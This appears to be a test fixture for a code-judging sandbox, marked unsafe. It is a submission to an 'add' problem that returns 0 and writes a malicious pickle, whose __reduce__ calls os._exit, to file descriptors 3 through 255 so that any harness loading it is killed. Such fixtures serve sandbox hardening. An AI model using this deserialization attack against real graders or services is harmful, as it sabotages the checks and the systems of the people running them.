# problem: add
# verdict: wrong_answer | runtime_error | crashed | exited | output_limit
# why: A pickle that would run code in whoever loads it.
# unsafe: true
import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def add(a, b):
    body = pickle.dumps(Bomb())
    for fd in range(3, 256):
        for frame in (body, struct.pack("!i", len(body)) + body, struct.pack("<Q", len(body)) + body):
            try:
                os.write(fd, frame)
            except OSError:
                break
    return 0
